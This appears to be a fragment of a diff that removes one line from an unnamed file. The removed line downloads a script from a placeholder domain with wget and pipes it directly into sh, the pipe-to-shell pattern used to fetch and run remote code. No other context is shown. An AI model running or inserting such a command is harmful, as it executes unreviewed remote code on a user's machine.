@@ -1,1 +1,0 @@
-wget -qO- https://example.com/i.sh | sh
